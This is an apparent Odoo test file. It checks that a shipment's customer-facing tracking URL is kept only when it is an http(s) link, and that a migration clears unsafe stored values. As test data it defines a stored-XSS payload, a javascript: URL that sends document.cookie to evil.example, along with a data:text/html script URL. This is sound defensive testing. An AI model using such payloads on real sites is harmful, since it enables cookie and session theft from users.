"""A tracking URL from the TMS is stored only if it is an http(s) link: it is
rendered as a link to customers (a javascript: URL would be a stored XSS)."""

from odoo.exceptions import ValidationError
from odoo.tests import TransactionCase, tagged

from odoo.addons.logistics_integration_base.tests.common import JobsMixin, run_migration

XSS = "javascript:fetch('//evil.example/'+document.cookie)"
SAFE = "https://tms.example/track/1Z999"


@tagged("post_install", "-at_install")
class TestTrackingUrl(JobsMixin, TransactionCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.endpoint = cls.env["logistics.endpoint"].create(
            {"name": "TMS", "code": "tms_tracking", "system": "tms"}
        )
        customer = cls.env["res.partner"].create({"name": "Brasserie Dupont"})
        cls.shipment = cls.env["logistics.shipment"].create(
            {
                "endpoint_id": cls.endpoint.id,
                "partner_id": customer.id,
                "shipper_id": cls.env.company.partner_id.id,
                "consignee_id": customer.id,
                "status": "released",
                "tms_reference": "TMS-42",
            }
        )

    def _event(self, event_id, sequence, tracking_url):
        return {
            "event_id": event_id,
            "event_type": "shipment.milestone",
            "occurred_at": "2026-11-27T10:%02d:00Z" % sequence,
            "sequence": sequence,
            "aggregate": {"type": "shipment", "id": "TMS-42"},
            "data": {
                "shipment_id": "TMS-42",
                "status_code": "IN_TRANSIT",
                "tracking_number": "1Z999",
                "tracking_url": tracking_url,
            },
        }

    def _apply(self, event):
        with self.jobs():
            [(message, outcome, _reason)] = self.env[
                "logistics.shipment"
            ]._tms_receive_events(self.endpoint, [event])
        self.assertEqual(outcome, "accepted")
        return message

    def test_non_http_tracking_url_is_ignored_with_a_reason(self):
        message = self._apply(self._event("EV-1", 1, XSS))
        # The event itself is applied: only the unsafe link is left out.
        self.assertEqual(message.state, "done", message.last_error)
        self.assertEqual(self.shipment.status, "in_transit")
        self.assertEqual(self.shipment.tracking_number, "1Z999")
        self.assertFalse(self.shipment.tracking_url)
        notes = self.shipment.message_ids.filtered(
            lambda m: "not an http(s) link" in (m.body or "")
        )
        self.assertEqual(len(notes), 1)
        self.assertIn("javascript:", notes.body)
        self.assertNotIn("<script", notes.body)
        # A later event with a real link fills it.
        self._apply(self._event("EV-2", 2, SAFE))
        self.assertEqual(self.shipment.tracking_url, SAFE)

    def test_only_http_links_are_stored_whoever_writes(self):
        for value in (XSS, "data:text/html,<script>alert(1)</script>", "//x.example"):
            with self.subTest(value=value), self.assertRaises(ValidationError):
                self.shipment.copy({"tracking_url": value})

    def test_migration_clears_unsafe_tracking_urls(self):
        safe = self.shipment.copy({"tracking_url": SAFE})
        # Stored before the check existed.
        self.env.cr.execute(
            "UPDATE logistics_shipment SET tracking_url = %s WHERE id = %s",
            (XSS, self.shipment.id),
        )
        run_migration(self.env.cr, __file__, "18.0.1.1.0", "post-migrate", "18.0.1.0.0")
        self.env.invalidate_all()
        self.assertFalse(self.shipment.tracking_url)
        self.assertEqual(safe.tracking_url, SAFE)
